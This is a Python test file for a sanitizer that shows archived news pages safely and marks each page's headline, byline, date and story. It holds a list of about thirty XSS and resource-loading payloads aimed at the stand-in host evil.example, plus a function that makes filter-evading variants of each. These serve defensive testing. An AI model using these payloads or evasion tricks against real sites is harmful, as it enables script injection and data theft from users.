"""An archived page in a frame: nothing that acts is left, and headline, byline, date and story are marked."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from lxml import html

from pipelines.browse.archived_page import ATTRIBUTES, KEPT, archived_page, marks_of
from pipelines.lake.archive import Capture

DOCUMENT: dict[str, Any] = {
    "title": "Bridge opens", "headlines": [], "authors": ["Ann Lee"],
    "text": "The mayor opened the bridge on Monday.\n\nIt cost two million.",
}  # fmt: skip
STORY = (
    '<h1 onclick="x()">Bridge  <em>opens</em></h1><p>By <a href="/ann" rel=author>Ann Lee</a>, <time>2 Feb 2026</time></p>'
    "<div><p>The mayor opened the\n bridge on Monday.</p><p>It cost two million.</p></div><p>Subscribe to our letter</p>"
)
HOSTILE = (
    "<script>top.location='//evil.example'</script>",
    "<svg><script href='//evil.example/x.js'/></svg>",
    "<svg onload=fetch('//evil.example')><use href='//evil.example#x'/></svg>",
    "<img src=//evil.example/x.png onerror=alert(1)>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><a href=x>go</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/x) }</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button formaction=//evil.example>go</button></form>",
    "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example poster=//evil.example autoplay></video><audio src=//evil.example autoplay></audio>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<table background=//evil.example><tr><td background=//evil.example>x</td></tr></table>",
    "<body background=//evil.example onload=alert(1)>",
    "<textarea></textarea><xmp><script>alert(1)</script></xmp><plaintext>",
    "<div><svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg></div>",
    "<x-evil onclick=alert(1) src=//evil.example>x</x-evil>",
    "<p id=location name=cookie class='dateline-headline' data-x='\"><script>'>x</p>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<a xlink:href=//evil.example>x</a><image src=//evil.example>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
)


def disguised(attack: str) -> Iterator[str]:
    """An attack as it is, and as filters miss it: in capitals, cut by NUL and by white space, behind what closes other
    elements, among marks of direction, opened twice, unclosed.
    """
    yield attack
    yield re.sub(r"(?<=<)/?[a-z-]+", lambda name: name[0].upper(), attack)
    yield attack.replace("script", "scr\0ipt").replace("javascript:", "java\tscr\nipt:")
    yield f"--></title></style></textarea></noscript>{attack}"
    yield f"\u202e\u2066\ufeff{attack}\u2069\u202c"
    yield attack.replace("<", "<<", 1)
    yield attack.removesuffix(">")


ATTACKS = [each for attack in HOSTILE for each in disguised(attack)]


def capture(body: str | bytes, content_type: str = "text/html; charset=utf-8") -> Capture:
    encoded = body.encode() if isinstance(body, str) else body
    headers = (("Content-Type", content_type),)
    return Capture(
        "https://paper.example/bridge", datetime(2026, 2, 2, tzinfo=UTC), 200, headers, encoded, "x.warc.gz", 0
    )


def shown(body: str) -> html.HtmlElement:
    text = archived_page(capture(f"<html><body>{body}{STORY}</body></html>"), marks_of(DOCUMENT, ["2 Feb 2026"]))
    return html.document_fromstring(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_is_left(attack: str) -> None:
    tree = shown(attack)
    for element in tree.iter():
        assert element.tag in KEPT - {"img"}, element.tag
        assert set(element.attrib) <= ATTRIBUTES | {"class"}, dict(element.attrib)
        assert element.get("class", "dateline-").startswith("dateline-")
        assert "evil.example" not in "".join(element.attrib.values())


def test_what_was_read_is_marked_where_it_stood() -> None:
    marked = [
        (e.get("class").removeprefix("dateline-"), " ".join(e.text_content().split()))
        for e in shown("").iter()
        if e.get("class")
    ]
    assert marked == [
        ("headline", "Bridge opens"), ("byline", "Ann Lee"), ("date", "2 Feb 2026"),
        ("story", "The mayor opened the bridge on Monday."), ("story", "It cost two million."),
    ]  # fmt: skip


def test_a_picture_that_stands_in_the_page_is_shown_and_no_other() -> None:
    dot = "data:image/png;base64,iVBORw0KGgo="
    [picture] = shown(f"<img src='{dot}' alt=dot onerror=alert(1) srcset='//evil.example 1x'>").iter("img")
    assert dict(picture.attrib) == {"src": dot, "alt": "dot"}
    for other in (
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHA+",
        "//evil.example/x.png",
        f"{dot}?//x",
    ):
        assert not [*shown(f"<img src='{other}'>").iter("img")]


def test_a_picture_is_what_it_is_said_to_show() -> None:
    assert "[picture: The bridge]" in shown("<img src=x.jpg alt='The bridge'>").text_content()


@pytest.mark.parametrize(
    ("body", "content_type"),
    [(b"%PDF-1.7", "application/pdf"), (b"", "text/html"), (b'{"a": "<script>"}', "application/json")],
)
def test_a_response_that_is_no_page_is_said_to_be_none(body: bytes, content_type: str) -> None:
    text = archived_page(capture(body, content_type), marks_of(DOCUMENT, []))
    assert "cannot be shown as a page" in text
    assert "<script" not in text


def test_a_large_page_costs_no_more_than_its_size() -> None:
    deep = "<div>" * 150 + "word " * 40_000 + "</div>" * 150
    assert (
        len(archived_page(capture(f"<html><body>{deep * 5}{STORY}</body></html>"), marks_of(DOCUMENT, []))) > 1_000_000
    )
